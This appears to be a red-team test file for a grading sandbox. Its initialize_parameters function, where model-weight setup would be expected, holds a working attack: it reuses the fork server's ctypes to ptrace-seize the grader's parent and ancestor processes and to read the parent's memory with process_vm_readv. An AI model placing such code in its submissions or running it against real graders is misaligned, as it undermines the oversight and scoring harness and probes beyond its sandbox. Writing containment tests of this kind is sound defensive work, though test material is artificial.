# RED-TEAM ATTACK (issue 9): ptrace the grader's processes, and read their memory without /proc.
# Route: libc through the ctypes that the fork server loaded for itself (sys.modules['ctypes']):
#   ptrace(PTRACE_SEIZE) on the parent and each ancestor (seizing does not stop them), and
#   process_vm_readv of the parent's first mapped page.
# Contained when: no ptrace or cross-process read succeeds, and initialize_parameters scores 0.
# attacked: initialize_parameters
# run: batch
import os
import sys

LEAK = "REDTEAM" + "-LEAK: "
PTRACE_SEIZE = 0x4206


def _ancestors():
    pids, pid = [], os.getppid()
    while pid > 1 and len(pids) < 16:
        pids.append(pid)
        try:
            with open("/proc/%d/status" % pid) as status:
                pid = int([line for line in status if line.startswith("PPid:")][0].split()[1])
        except Exception:
            break
    return pids or [os.getppid()]


def initialize_parameters(n_x, n_h, n_y):
    ctypes = sys.modules.get("ctypes")
    if ctypes is None or "CDLL" not in vars(ctypes):
        raise RuntimeError("no ctypes within reach")
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    gained = []
    for pid in _ancestors():
        if libc.ptrace(PTRACE_SEIZE, pid, None, None) == 0:
            gained.append("seized pid %d" % pid)
    parent = os.getppid()
    try:
        with open("/proc/%d/maps" % parent) as maps:
            address = int(maps.readline().split("-")[0], 16)
    except Exception:
        address = 0x400000

    class IOVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    buffer = ctypes.create_string_buffer(64)
    local, remote = IOVec(ctypes.cast(buffer, ctypes.c_void_p), 64), IOVec(address, 64)
    if libc.process_vm_readv(parent, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
        gained.append("read the parent's memory at %#x" % address)
    if gained:
        raise RuntimeError(LEAK + "; ".join(gained))
    raise RuntimeError("ptrace refused, errno %d" % ctypes.get_errno())
